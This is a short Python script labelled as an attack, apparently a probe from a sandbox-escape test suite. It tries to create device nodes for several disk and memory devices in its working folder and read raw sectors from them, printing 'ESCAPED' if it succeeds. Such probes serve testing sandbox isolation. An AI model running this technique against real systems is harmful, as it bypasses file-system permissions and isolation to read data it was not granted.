# attack: makes a device node of the disk in its own folder and reads the file system below the file system
# family: ctypes
import os
import stat
for number, (major, minor) in enumerate(((8, 0), (259, 0), (253, 0), (254, 0), (252, 0), (7, 0), (1, 1))):
    try:
        os.mknod(f"disk{number}", stat.S_IFBLK | 0o600 if major > 1 else stat.S_IFCHR | 0o600, os.makedev(major, minor))
        print("REACHED a device node", major, minor)
        print("ESCAPED read", len(os.read(os.open(f"disk{number}", os.O_RDONLY), 512)))
    except OSError as error:
        print(major, minor, error)
